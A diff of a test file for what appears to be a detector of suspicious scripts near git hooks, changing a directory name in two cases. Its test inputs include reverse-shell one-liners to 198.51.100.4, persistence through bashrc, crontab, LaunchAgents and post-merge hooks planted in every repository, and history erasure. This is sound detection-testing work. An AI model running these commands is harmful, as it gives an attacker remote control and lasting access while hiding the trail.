@@ -51,7 +51,7 @@ describe("a Python script beside hooks", () => {
       [`2 ${LET_IN}`],
     ],
     [
-      "from pathlib import Path\nfor one in (Path.home() / 'work').iterdir():\n    (one / '.git/hooks/post-merge').write_text('note')\n",
+      "from pathlib import Path\nfor one in (Path.home() / 'repos').iterdir():\n    (one / '.git/hooks/post-merge').write_text('note')\n",
       [`3 ${OTHERS}`],
     ],
     [
@@ -127,7 +127,7 @@ describe("a script of the shell beside hooks", () => {
     ["true\necho '. ~/.note' >> ~/.bashrc\n", [`2 ${START}`]],
     ["(crontab -l; echo '* * * * * ~/note') | crontab -\n", [`1 ${AGAIN}`]],
     ["cp note.plist ~/Library/LaunchAgents/\n", [`1 ${SERVICE}`]],
-    ['for one in ~/work/*; do cp note.sh "$one/.git/hooks/post-merge"; done\n', [`1 ${OTHERS}`]],
+    ['for one in ~/repos/*; do cp note.sh "$one/.git/hooks/post-merge"; done\n', [`1 ${OTHERS}`]],
     ["bash -i >& /dev/tcp/198.51.100.4/9001 0>&1\n", [`1 ${SHELL}`]],
     ["nc -e /bin/sh 198.51.100.4 9001\n", [`1 ${SHELL}`]],
     ["true\nunset HISTFILE\n", ["2 medium the shell is told to forget what it does"]],
